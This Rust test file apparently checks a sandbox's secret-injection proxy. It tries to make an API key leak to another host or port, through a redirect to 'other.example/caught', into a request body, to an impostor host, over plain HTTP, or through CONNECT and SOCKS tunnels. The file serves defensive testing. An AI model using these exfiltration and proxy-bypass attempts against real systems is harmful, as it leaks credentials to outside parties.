//! Checks that a secret goes only to its host, port and header, over verified TLS.

use belljar_spec::Clause;

use super::secrets::{SECRET, canary, with_secret};
use super::trial::{DialogueResults, allowed, of_run, short, spell, unfit};
use crate::case::{Case, Severity, Verdict};
use crate::dialogue::{Dialogue, Step, get, send, tls};
use crate::testbed::{Run, TestBed, TestBedError};
use crate::world::names::{KEEPER, UNTRUSTED};
use crate::world::pages::ECHO;

pub(super) const CASES: &[Case] = &[
    Case {
        name: "env.secret-elsewhere",
        attack: "have a secret sent to another host, port or place, by a redirect, to an impostor",
        clause: Clause::EnvClean,
        severity: Severity::Critical,
        run: elsewhere,
    },
    Case {
        name: "env.secret-blind-tunnel",
        attack: "tunnel past the proxy to a host that has a secret",
        clause: Clause::EnvClean,
        severity: Severity::High,
        run: blind_tunnel,
    },
];

/// The variable inside holds this run's placeholder.
const PLACEHOLDER: &str = "${WORLD_KEY}";
const ROUTE_PORT: u16 = 8085;

fn asking(host: &str, path: &str, header: &str) -> Step {
    send(format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{header}Connection: close\r\n\r\n"))
}

fn elsewhere(testbed: &TestBed) -> Result<Verdict, TestBedError> {
    let canary = canary(testbed)?;
    let key = format!("x-api-key: {PLACEHOLDER}\r\n");
    let to = |authority: &str, name: &str, steps: Vec<Step>| {
        let all: Vec<Step> = [tls(name)].into_iter().chain(steps).collect();
        Dialogue::tunnel(authority, all)
    };
    let one = |host: &str, path: &str, header: &str| {
        vec![asking(host, path, header), Step::AttemptResult]
    };
    let redirected = "/redirect?to=https://other.example/caught";
    let in_body = format!(
        "POST /body HTTP/1.1\r\nHost: keeper.example\r\nX-Other: {PLACEHOLDER}\r\n\
         Content-Length: ${{#WORLD_KEY}}\r\nConnection: close\r\n\r\n{PLACEHOLDER}"
    );
    let dialogues = [
        allowed(),
        to("other.example:443", "other.example", one("other.example", "/a", &key)),
        to("keeper.example:8443", "keeper.example", one("keeper.example", "/b", &key)),
        to("keeper.example:443", "keeper.example", one("keeper.example", redirected, &key))
            .called("a redirect"),
        // As a client does that follows it, with all its headers.
        to("other.example:443", "other.example", one("other.example", "/caught", &key))
            .called("and where it leads"),
        to("keeper.example:443", "keeper.example", vec![send(in_body), Step::AttemptResult])
            .called("another place"),
        to("untrusted.example:443", UNTRUSTED, one(UNTRUSTED, "/c", &key)).called("an impostor"),
        Dialogue::raw(
            "without TLS",
            format!(
                "GET http://keeper.example/d HTTP/1.1\r\nHost: keeper.example\r\n{key}\
                 Connection: close\r\n\r\n"
            ),
        ),
    ];
    let run = Run::in_world(testbed, "dialogues").arg(spell(&dialogues)?);
    let hosts = ["keeper.example", "keeper.example:8443", "other.example", UNTRUSTED];
    let run = hosts
        .iter()
        .fold(with_secret(testbed, run, &canary)?, |run, host| run.flag("--allow-host").flag(host));
    let second = SECRET.replace("keeper.example", UNTRUSTED).replace("WORLD_KEY", "OTHER_KEY");
    let run = run.flag("--secret").flag(SECRET).flag("--secret").flag(second);
    let run = run.launcher_env("OTHER_KEY", format!("{canary}-other"));
    let tried = of_run(testbed, &run)?;
    if let Some(verdict) = unfit(&tried) {
        return Ok(verdict);
    }
    let keeper = format!("{KEEPER}:443");
    for request in tried.seen.requests.iter().filter(|one| one.head.contains(&canary)) {
        let lines = request.head.lines().filter(|line| line.contains(&canary)).count();
        let is_its_place = request.head.lines().any(|line| {
            line.to_lowercase().starts_with("x-api-key:") && line.ends_with(canary.as_str())
        });
        if request.at != keeper || !is_its_place || lines != 1 {
            return Ok(Verdict::broke(format!("{} got it: {}", request.at, short(&request.head))));
        }
    }
    if tried.seen.requests.iter().any(|one| one.body.contains(&canary)) {
        return Ok(Verdict::broke("it was put into a body"));
    }
    if tried.seen.requests.iter().any(|one| one.sni.as_deref() == Some(UNTRUSTED)) {
        return Ok(Verdict::broke("an impostor was talked to"));
    }
    // What it was tried with did arrive elsewhere, and with it the placeholder; and its own host got it.
    let arrived = |path: &str| tried.seen.requests.iter().any(|one| one.head.contains(path));
    let own = tried.seen.requests.iter().filter(|one| one.head.contains(&canary)).count();
    if !arrived("/a ") || !arrived("/b ") || !arrived("/caught ") || own < 2 {
        let argv =
            dialogues.iter().map(|one| format!("{}: {}", one.what, probe_report(&tried, one)));
        let argv: Vec<String> = argv.collect();
        return Ok(Verdict::no_control(format!("not all of it arrived: {}", argv.join("; "))));
    }
    Ok(Verdict::held(format!("its own host got it {own} times, nobody else did")))
}

fn probe_report(tried: &DialogueResults, dialogue: &Dialogue) -> String {
    short(tried.probe_report(&dialogue.what)).chars().take(80).collect()
}

fn blind_tunnel(testbed: &TestBed) -> Result<Verdict, TestBedError> {
    let canary = canary(testbed)?;
    let manifest = testbed.place()?.join("belljar.toml");
    testbed.file(
        &manifest,
        &format!(
            "[network]\nallow = [\"ok.example\", \"keeper.example\"]\n\
             [[secret]]\nenv = \"WORLD_KEY\"\nhost = \"keeper.example\"\nheader = \"x-api-key\"\n\
             [[route]]\nlisten = {ROUTE_PORT}\nto = \"https://keeper.example\"\nsecret = \"WORLD_KEY\"\n"
        ),
    )?;
    let steps = || [tls("keeper.example"), get("keeper.example", "/blind"), Step::AttemptResult];
    let tunnels = [
        Dialogue::tunnel("keeper.example:443", steps()),
        Dialogue::tunnel("KEEPER.example.:443", steps()),
        Dialogue::socks("keeper.example", 443, steps()),
    ];
    let routed = Dialogue::new(
        "the route",
        [asking(&format!("127.0.0.1:{ROUTE_PORT}"), "/routed", ""), Step::AttemptResult],
    )
    .at_port(ROUTE_PORT);
    let dialogues: Vec<Dialogue> =
        [allowed(), routed.clone()].into_iter().chain(tunnels.clone()).collect();
    let run = Run::in_world(testbed, "dialogues").manifest(manifest).arg(spell(&dialogues)?);
    let run = run
        .launcher_env("WORLD_KEY", &canary)
        .launcher_env("SSL_CERT_FILE", testbed.world()?.authority());
    let tried = of_run(testbed, &run)?;
    if let Some(verdict) = unfit(&tried) {
        return Ok(verdict);
    }
    if tried.seen.received("/blind") {
        return Ok(Verdict::broke("a tunnel got through, which nobody could look into"));
    }
    if let Some(one) = tunnels.iter().find(|one| tried.was_answered(&one.what)) {
        return Ok(Verdict::broke(format!("{}: {}", one.what, probe_report(&tried, one))));
    }
    let route = tried.probe_report(&routed.what);
    if !route.contains(ECHO) || !tried.seen.received(&canary) {
        return Ok(Verdict::Failed { why: format!("the route does not work: {}", short(route)) });
    }
    if route.contains(&canary) {
        return Ok(Verdict::broke("the value came back through the route"));
    }
    let without = super::trial::control(testbed, &tunnels)?;
    if !without.seen.received("/blind") {
        return Ok(Verdict::no_control("without a check, no tunnel got through either"));
    }
    Ok(Verdict::held(format!("{} tunnels refused; the route carried it", tunnels.len())))
}
